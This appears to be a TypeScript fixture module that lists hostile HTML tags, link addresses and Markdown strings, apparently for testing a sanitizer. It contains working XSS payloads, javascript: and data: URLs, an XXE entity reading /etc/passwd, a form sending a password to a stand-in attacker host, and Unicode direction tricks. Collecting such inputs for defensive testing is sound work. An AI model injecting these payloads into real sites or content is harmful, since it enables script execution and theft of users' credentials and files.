/** Splits texts between which a broken bar stands. */
const split = (text: string): string[] => text.trim().split(/ ¦\s/);

/** HTML that tries to run scripts or load resources. */
export const hostileTags = split(`
<script src=https://evil.example/x.js></script> ¦ <scr<script>ipt>alert(1)</scr</script>ipt> ¦
<img/src=x/onerror=alert(1)> ¦ <IMG SRC=javascript:alert(1)> ¦ <img src=x onerror="&#97;lert(1)"> ¦
<svg><a xlink:href="javascript:alert(1)"><script>alert(1)</script></a></svg> ¦
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)> ¦
<iframe srcdoc="<script>alert(1)</script>"></iframe> ¦ <object data="https://evil.example"></object> ¦
<base href="https://evil.example/"> ¦ <meta http-equiv="refresh" content="0;url=https://evil.example"> ¦
<style>@import "https://evil.example/x.css";</style> ¦ <div style="background:url(https://evil.example)">x</div> ¦
<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form> ¦
<noscript><p title="</noscript><img src=x onerror=alert(1)>"> ¦ <plaintext> ¦
<details open ontoggle=alert(1)>x</details> ¦ <a href="javascript:alert(1)" target=_top>x</a> ¦
<custom-element onclick=alert(1)> ¦
<!--><script>alert(1)</script>--> ¦ <![CDATA[<script>alert(1)</script>]]> ¦
<?xml-stylesheet href="https://evil.example"?> ¦ <!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]> ¦
<a id=document name=cookie>x</a> ¦ &lt;script&gt;alert(1)&lt;/script&gt; ¦
&#60;img src=x onerror=alert(1)&#62; ¦ &#x3c;script&#x3e;alert(1)
`);

/** Addresses that must never become a link's target. */
export const hostileAddresses = split(`
JaVaScRiPt:alert(1) ¦ java\tscript:alert(1) ¦ java&Tab;script:alert(1) ¦ &#106;avascript:alert(1) ¦
\u00a0javascript:alert(1) ¦ javascript\\:alert(1) ¦ javascript://example.org/%0aalert(1) ¦
javascript:https://example.org ¦ feed:javascript:alert(1) ¦ vbscript:msgbox(1) ¦
data:text/html,<script>alert(1)</script> ¦ data:image/svg+xml,<svg/onload=alert(1)> ¦ file:///etc/passwd ¦
blob:https://example.org/1 ¦ about:blank ¦ ftp://example.org ¦ intent://x#Intent;scheme=http;end ¦
//evil.example/x ¦ \\\\evil.example\\x ¦ https:\\\\evil.example ¦ https:evil.example ¦
https://user:password@evil.example/ ¦ /api/me ¦ /course/../api/me ¦ tel:9876543210 ¦ tel:*21*108# ¦ ?delete=1 ¦ https://example.org/"onmouseover="alert(1) ¦
https://example.org/><script>alert(1)</script> ¦ https:// ¦ mailto:a@example.org"onclick=alert(1) ¦
<javascript:alert(1)> ¦ <https://example.org" onclick="alert(1)>
`);

/** Markdown that links elsewhere than it shows, or hides its content. */
export const hostileMarkdown = [
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: data:text/html,x "t"\n\n[y][x] ![z][x]',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '![[x](javascript:alert(1))](y)',
  '<https://example.org" onclick="alert(1)>',
  'https://example.org/\u202egpj.exe',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)> {#id onclick=alert(1)}',
  '| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |',
  '- [ ] <input onfocus=alert(1)>\n- [x] [y](javascript:alert(1))',
  '1"onclick=alert(1). x',
  'x\u0000y\u0007z',
  'a\ud800b\udfffc',
  'hidden\u{e0041}\u{e0042}tags',
  '&#8238;turned &#x202e;turned &#0;null &#xd800;lone &#1114112;beyond',
  '[te\u202ext](https://example.org/\u202ea)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '$$\\href{javascript:alert(1)}{x}$$',
  '[toc]\n\n[^1]\n\n[^1]: <script>alert(1)</script>',
];
